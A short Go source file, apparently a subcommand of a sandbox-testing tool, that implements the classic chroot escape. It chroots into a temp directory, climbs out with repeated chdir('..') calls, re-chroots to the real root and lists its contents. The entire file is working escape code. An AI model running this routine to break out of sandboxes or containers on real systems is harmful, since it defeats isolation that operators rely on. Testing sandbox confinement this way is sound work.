package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// breakout is the classic: with a root below the working directory nothing
// stops ".." at the top (chroot(2)). It needs a folder to write to.
func breakout([]string) error {
	folder, err := os.MkdirTemp("/", "breakout-")
	if err != nil {
		return err
	}
	if err := unix.Chroot(folder); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	entries, err := os.ReadDir("/")
	if err != nil {
		return err
	}
	for _, entry := range entries {
		if entry.Name() != folder[1:] {
			fmt.Println(entry.Name())
		}
	}
	// Seen from the real root, wherever that is.
	return unix.Rmdir(folder)
}
